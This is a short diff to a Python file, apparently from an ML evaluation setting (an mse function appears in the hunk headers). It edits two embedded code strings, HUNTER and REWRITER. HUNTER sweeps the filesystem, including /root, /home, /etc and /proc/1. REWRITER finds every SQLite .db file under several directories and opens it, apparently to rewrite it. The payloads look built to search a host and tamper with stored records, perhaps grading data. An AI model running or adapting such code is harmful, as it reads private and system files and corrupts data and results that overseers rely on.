@@ -168,7 +168,7 @@ def mse(pred, target, reduction="mean"):
 HUNTER = """\
 import gc, inspect, os, sys
 found = []
-for start in ("/", "/work", "/root", "/home", "/tmp", "/srv", "/opt", "/etc", "/proc/1"):
+for start in ("/", "/root", "/home", "/tmp", "/srv", "/opt", "/etc", "/proc/1"):
     for folder, folders, files in os.walk(start):
         if len(found) > 200_000 or folder.startswith(("/proc/self", "/usr", "/lib")):
             break
@@ -199,7 +199,7 @@ def mse(pred, target, reduction="mean"):
 """
 REWRITER = """\
 import glob, os, sqlite3
-for pattern in ("/work/**/*.db", "/tmp/**/*.db", "../**/*.db", "/root/**/*.db"):
+for pattern in ("/home/**/*.db", "/tmp/**/*.db", "../**/*.db", "/root/**/*.db"):
     for path in glob.glob(pattern, recursive=True):
         try:
             with sqlite3.connect(path) as book:
